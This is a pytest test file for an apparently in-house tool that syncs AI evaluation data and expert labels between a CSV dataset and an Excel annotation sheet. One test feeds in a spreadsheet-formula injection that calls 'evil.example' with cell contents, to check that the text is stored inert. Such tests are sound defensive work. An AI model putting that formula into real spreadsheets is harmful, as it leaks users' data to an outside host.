"""The annotation round trip on a local .xlsx: push, the expert edits (and re-orders) the sheet, re-push,
pull. Zero labels lost or changed, whatever the expert did to the sheet."""

import json

import openpyxl
import pytest
from click.testing import CliRunner

from sheetsync.cli import cli
from sheetsync.config import load_config
from sheetsync.pull import pull
from sheetsync.push import push
from sheetsync.store import Store
from sheetsync.workspace import init_workspace
from tests.expert import Expert


def make_workspace(tmp_path, rows=None):
    init_workspace(tmp_path, spreadsheet="labels.xlsx")
    toml = tmp_path / "sheetsync.toml"
    toml.write_text(
        toml.read_text().replace("context = []", 'context = ["tier"]').replace("dimensions = []", 'dimensions = ["feature"]')
    )
    write_data(tmp_path / "data.csv", rows or default_rows())
    return load_config(toml)


def default_rows(n=6):
    return [
        {"id": f"r{i}", "feature": "refund" if i % 2 else "baggage", "tier": "Gold", "input": f"question {i}",
         "output": f"answer {i}"}
        for i in range(1, n + 1)
    ]


def write_data(path, rows):
    import csv

    with path.open("w", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)


LABELS = {
    "r1": ("Pass", "Correct refund window and friendly tone, cites the policy clearly.", ""),
    "r2": ("Fail", "Quoted a baggage fee that does not exist for Gold members at all.", "hallucinated fact"),
    "r3": ("fail", "Ignored that the customer is Gold and offered no priority rebooking.", "ignored context; wrong tone"),
    "r4": ("✓", "Good.", ""),
}


def test_push_builds_the_annotate_tab(tmp_path):
    cfg = make_workspace(tmp_path)
    result = push(cfg, tmp_path / "data.csv")
    assert len(result.added) == 6 and result.updated == 0
    rows = Expert(tmp_path / "labels.xlsx").rows()
    assert set(rows) == {f"r{i}" for i in range(1, 7)}
    assert rows["r1"]["input"] == "question 1" and rows["r1"]["Pass/Fail"] is None
    wb = openpyxl.load_workbook(tmp_path / "labels.xlsx")
    assert wb.sheetnames[:2] == ["Instructions", "Annotate"]
    ws = wb["Annotate"]
    header = [c.value for c in ws[1]]
    assert header[:5] == ["id", "feature", "tier", "input", "output"]
    assert header[-5:] == ["Pass/Fail", "Critique", "Root cause", "Notes", "sheetsync key"]
    assert ws.freeze_panes == "B2"
    formulas = [dv.formula1 for dv in ws.data_validations.dataValidation]
    assert '"Pass,Fail"' in formulas
    # the workspace remembers the spreadsheet for later commands
    assert Store.for_workspace(cfg.state_dir).get_meta("spreadsheet").endswith("labels.xlsx")


def test_labels_survive_sort_insert_delete_and_moved_column(tmp_path):
    cfg = make_workspace(tmp_path)
    push(cfg, tmp_path / "data.csv")
    expert = Expert(tmp_path / "labels.xlsx")
    expert.label(LABELS)
    expert.sort_by("Critique")
    expert.insert_blank_row(3)
    expert.move_column_to_front("Critique")
    expert.delete_row_with("r6")
    before = {k: v for k, v in expert.rows().items()}

    # the dataset grows (r7), changes (r2's output) and loses r5
    rows = default_rows(7)
    rows[1]["output"] = "a rewritten answer 2"
    del rows[4]
    write_data(tmp_path / "data.csv", rows)
    result = push(cfg, tmp_path / "data.csv")

    after = expert.rows()
    for rid, (verdict, critique, cause) in LABELS.items():
        assert (after[rid]["Pass/Fail"], after[rid]["Critique"], after[rid]["Root cause"] or "") == (
            verdict, critique, cause,
        ), rid
    assert result.stale == ["r2"] and "stale" in after["r2"]["Status"]
    assert after["r2"]["output"] == "a rewritten answer 2"
    assert "r7" in result.added and after["r7"]["input"] == "question 7"
    assert result.removed == ["r5"] and "not in the latest dataset" in after["r5"]["Status"]
    assert "r6" in result.added  # the expert deleted it; it is in the data, so it comes back unlabelled
    # the expert's moved column stayed where they put it
    wb = openpyxl.load_workbook(tmp_path / "labels.xlsx")
    assert wb["Annotate"].cell(1, 2).value == "Critique"
    assert before["r1"]["Critique"] == after["r1"]["Critique"]


def test_pull_validates_and_stores_every_label(tmp_path):
    cfg = make_workspace(tmp_path)
    push(cfg, tmp_path / "data.csv")
    expert = Expert(tmp_path / "labels.xlsx")
    expert.label({**LABELS, "r5": ("maybe", "I am not sure about this one yet, need to check.", ""),
                  "r6": ("Fail", "", "Rude  Tone | hallucinated fact")})
    summary = pull(cfg, out=tmp_path / "labels.jsonl")
    assert (summary.rows, summary.labelled, summary.passes, summary.fails) == (6, 5, 2, 3)
    assert summary.fails_without_critique == ["r6"]
    assert summary.terse_critiques == ["r4"]
    assert summary.unknown_verdicts == ["r5 (row 6): 'maybe'"]
    assert summary.unknown_root_causes == {"Rude Tone": ["r6"]}  # known causes (any case) are not reported
    labels = Store.for_workspace(cfg.state_dir).labels()
    assert labels["r3"].verdict == "fail" and labels["r3"].root_cause == "ignored context; wrong tone"
    assert labels["r4"].verdict == "pass" and labels["r4"].raw_verdict == "✓"
    assert labels["r5"].verdict is None and labels["r5"].raw_verdict == "maybe"
    exported = [json.loads(line) for line in (tmp_path / "labels.jsonl").read_text().splitlines()]
    assert {e["id"] for e in exported} == {f"r{i}" for i in range(1, 7)}

    # the expert changes their mind: criteria drift is reported with the id
    expert.label({"r1": ("Fail", "On reflection the refund window quoted was for another fare.", "policy misapplied")})
    again = pull(cfg)
    assert again.changed_since_last_pull == ["r1: pass → fail"]
    assert Store.for_workspace(cfg.state_dir).pull_count() == 2


def test_formula_like_text_stays_text(tmp_path):
    rows = default_rows(1)
    rows[0]["input"] = '=IMPORTXML("http://evil.example/?q="&A1, "//a")'
    rows[0]["output"] = "+1"
    rows[0]["tier"] = "007"
    cfg = make_workspace(tmp_path, rows)
    push(cfg, tmp_path / "data.csv")
    wb = openpyxl.load_workbook(tmp_path / "labels.xlsx")
    ws = wb["Annotate"]
    header = [c.value for c in ws[1]]
    cell = ws.cell(2, header.index("input") + 1)
    assert cell.data_type == "s" and cell.value == rows[0]["input"]
    assert ws.cell(2, header.index("tier") + 1).value == "007"


def test_too_long_text_is_cut_with_a_marker_and_kept_locally(tmp_path):
    rows = default_rows(1)
    rows[0]["output"] = "x" * 40000
    cfg = make_workspace(tmp_path, rows)
    result = push(cfg, tmp_path / "data.csv")
    assert result.truncated == ["r1: output (40,000 characters)"]
    cell = Expert(tmp_path / "labels.xlsx").rows()["r1"]["output"]
    assert len(cell) <= 32767 and "cut by sheetsync" in cell
    kept = cell.index("\n… [cut")
    assert f"{40000 - kept:,} more characters" in cell
    assert Store.for_workspace(cfg.state_dir).rows()["r1"]["output"] == "x" * 40000


def test_sample_covers_every_combination(tmp_path):
    rows = [
        {"id": f"r{i}", "feature": f"f{i % 3}", "tier": f"t{i % 2}", "input": f"q{i}", "output": f"a{i}"}
        for i in range(60)
    ]
    cfg = make_workspace(tmp_path, rows)
    result = push(cfg, tmp_path / "data.csv", sample=8, stratify_by=("feature", "tier"), seed=3)
    assert len(result.added) == 8
    shown = Expert(tmp_path / "labels.xlsx").rows()
    assert {(r["feature"], r["tier"]) for r in shown.values()} == {(f"f{a}", f"t{b}") for a in range(3) for b in range(2)}
    # a second sample adds new rows only, and is deterministic by seed
    again = push(cfg, tmp_path / "data.csv", sample=5, seed=3)
    assert len(again.added) == 5 and not set(again.added) & set(result.added)


@pytest.mark.parametrize(
    "content,message",
    [
        ("id,input,output\n1,a,b\n1,c,d\n", "duplicate ids"),
        ("id,text\n1,a\n", "cannot tell which column is the input"),
        ("", "the file is empty"),
    ],
)
def test_bad_data_exits_2_and_writes_nothing(tmp_path, monkeypatch, content, message):
    monkeypatch.chdir(tmp_path)
    init_workspace(tmp_path, spreadsheet="labels.xlsx")
    (tmp_path / "bad.csv").write_text(content)
    result = CliRunner().invoke(cli, ["push", "bad.csv"])
    assert result.exit_code == 2
    assert message in result.stderr and "Traceback" not in result.output
    assert not (tmp_path / "labels.xlsx").exists()


def test_cli_round_trip(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    make_workspace(tmp_path)
    runner = CliRunner()
    result = runner.invoke(cli, ["push", "data.csv"])
    assert result.exit_code == 0, result.output
    assert "6 new, 0 updated" in result.output
    Expert(tmp_path / "labels.xlsx").label(LABELS)
    result = runner.invoke(cli, ["pull", "--json"])
    assert result.exit_code == 0, result.output
    data = json.loads(result.stdout)
    assert data["labelled"] == 4 and data["fails"] == 2


def test_columns_that_would_clash_with_the_tab_are_refused(tmp_path):
    rows = default_rows(2)
    for r in rows:
        r["Notes"] = "internal"
    cfg = make_workspace(tmp_path, rows)
    toml = tmp_path / "sheetsync.toml"
    toml.write_text(toml.read_text().replace('context = ["tier"]', 'context = ["tier", "Notes"]'))
    from sheetsync.errors import UserInputError

    with pytest.raises(UserInputError, match="Notes clash with the Annotate tab's own columns"):
        push(load_config(toml), tmp_path / "data.csv")
    toml.write_text(toml.read_text().replace('context = ["tier", "Notes"]', 'context = ["tier", "feature"]'))
    from sheetsync.errors import ConfigError

    with pytest.raises(ConfigError, match=r"names `feature`, which \[columns\] context names too"):
        load_config(toml)  # a column in two roles is refused with the config, before any command runs
    assert not (tmp_path / "labels.xlsx").exists()
    assert cfg.spreadsheet == "labels.xlsx"


def test_the_experts_own_highlighting_survives_a_re_push(tmp_path):
    from openpyxl.formatting.rule import FormulaRule
    from openpyxl.styles import PatternFill

    cfg = make_workspace(tmp_path)
    push(cfg, tmp_path / "data.csv")
    wb = openpyxl.load_workbook(tmp_path / "labels.xlsx")
    yellow = PatternFill(fill_type="solid", start_color="FFFFFF00", end_color="FFFFFF00")
    wb["Annotate"].conditional_formatting.add("D2:D100", FormulaRule(formula=['ISNUMBER(SEARCH("refund",$D2))'],
                                                                     fill=yellow))
    wb.save(tmp_path / "labels.xlsx")
    push(cfg, tmp_path / "data.csv")
    push(cfg, tmp_path / "data.csv")
    rules = [r.formula[0] for cf in openpyxl.load_workbook(tmp_path / "labels.xlsx")["Annotate"].conditional_formatting
             for r in cf.rules]
    assert rules.count('ISNUMBER(SEARCH("refund",$D2))') == 1
    assert sum('N("sheetsync")' in f for f in rules) == 4  # sheetsync's four, not duplicated


def test_a_stale_label_counts_again_once_the_expert_clears_the_flag(tmp_path):
    cfg = make_workspace(tmp_path)
    push(cfg, tmp_path / "data.csv")
    expert = Expert(tmp_path / "labels.xlsx")
    expert.label(LABELS)
    rows = default_rows()
    rows[0]["output"] = "a better answer 1"
    write_data(tmp_path / "data.csv", rows)
    assert push(cfg, tmp_path / "data.csv").stale == ["r1"]
    assert push(cfg, tmp_path / "data.csv").stale == ["r1"]  # still flagged until the expert acts
    assert pull(cfg).stale == ["r1"]
    assert Store.for_workspace(cfg.state_dir).fresh_labels()[1] == ["r1"]  # stale: left out of the judge

    wb = openpyxl.load_workbook(tmp_path / "labels.xlsx")  # the expert re-checks r1 and clears the flag
    ws = wb["Annotate"]
    header = [c.value for c in ws[1]]
    for row in ws.iter_rows(min_row=2):
        if row[header.index("id")].value == "r1":
            row[header.index("Status")].value = None
    wb.save(tmp_path / "labels.xlsx")
    result = push(cfg, tmp_path / "data.csv")
    assert result.rechecked == ["r1"] and result.stale == []
    pull(cfg)
    fresh, stale = Store.for_workspace(cfg.state_dir).fresh_labels()
    assert "r1" in fresh and stale == []
    assert fresh["r1"].critique == LABELS["r1"][1]


def test_clearing_a_flag_confirms_only_the_content_it_was_shown_for(tmp_path):
    cfg = make_workspace(tmp_path)
    push(cfg, tmp_path / "data.csv")
    Expert(tmp_path / "labels.xlsx").label(LABELS)
    rows = default_rows()
    rows[0]["output"] = "a second answer 1"
    write_data(tmp_path / "data.csv", rows)
    assert push(cfg, tmp_path / "data.csv").stale == ["r1"]
    wb = openpyxl.load_workbook(tmp_path / "labels.xlsx")  # the expert clears the flag…
    ws = wb["Annotate"]
    header = [c.value for c in ws[1]]
    for row in ws.iter_rows(min_row=2):
        if row[header.index("id")].value == "r1":
            row[header.index("Status")].value = None
    wb.save(tmp_path / "labels.xlsx")
    rows[0]["output"] = "a third answer 1"  # …but the output changed again before the next push
    write_data(tmp_path / "data.csv", rows)
    result = push(cfg, tmp_path / "data.csv")
    assert result.stale == ["r1"] and result.rechecked == []


def test_push_to_a_read_only_workbook_exits_2_and_changes_nothing(tmp_path, monkeypatch):
    import os
    import sys

    if sys.platform == "win32":
        pytest.skip("POSIX permissions")
    make_workspace(tmp_path)
    monkeypatch.chdir(tmp_path)
    runner = CliRunner()
    assert runner.invoke(cli, ["push", "data.csv"]).exit_code == 0
    book = tmp_path / "labels.xlsx"
    os.chmod(book, 0o444)
    before = book.read_bytes()
    write_data(tmp_path / "data.csv", default_rows(7))  # a new row: this push must write
    result = runner.invoke(cli, ["push", "data.csv"])
    assert result.exit_code == 2, result.output
    assert "is read-only, so sheetsync will not replace it" in result.output
    assert "Traceback" not in result.output
    assert book.read_bytes() == before and not (tmp_path / "labels.xlsx.bak").exists()


def test_a_new_context_column_is_inserted_and_the_experts_unnamed_column_survives(tmp_path):
    cfg = make_workspace(tmp_path)
    push(cfg, tmp_path / "data.csv")
    book = tmp_path / "labels.xlsx"
    Expert(book).label(LABELS)
    wb = openpyxl.load_workbook(book)
    ws = wb["Annotate"]
    free = ws.max_column + 1
    ws.cell(2, free).value = "my own scribble, no header"
    wb.save(book)
    rows = [{**r, "channel": "chat"} for r in default_rows()]
    write_data(tmp_path / "data.csv", rows)
    toml = tmp_path / "sheetsync.toml"
    toml.write_text(toml.read_text().replace('context = ["tier"]', 'context = ["tier", "channel"]'))
    from sheetsync.config import load_config as reload

    cfg = reload(toml)
    push(cfg, tmp_path / "data.csv")
    got = Expert(book).rows()
    assert got["r1"]["channel"] == "chat"
    assert all(got[k]["Critique"] == LABELS[k][1] for k in LABELS)
    ws = openpyxl.load_workbook(book)["Annotate"]
    assert "my own scribble, no header" in [c.value for c in ws[2]]
    assert pull(cfg).labelled == 4


def test_pull_keeps_the_experts_text_byte_for_byte(tmp_path):
    """Leading spaces, a tab and a line break pasted from another program (Excel stores its carriage
    return as _x000D_) reach the store exactly as typed."""
    cfg = make_workspace(tmp_path)
    push(cfg, tmp_path / "data.csv")
    book = tmp_path / "labels.xlsx"
    typed = "  The fee quoted is wrong:_x000D_\n\tFlex fares change for free, the answer says €60. "
    Expert(book).label({"r1": ("Fail", typed, " wrong fare")})
    pull(cfg)
    label = Store.for_workspace(cfg.state_dir).labels()["r1"]
    assert label.critique == "  The fee quoted is wrong:\r\n\tFlex fares change for free, the answer says €60. "
    assert label.root_cause == " wrong fare" and label.verdict == "fail"
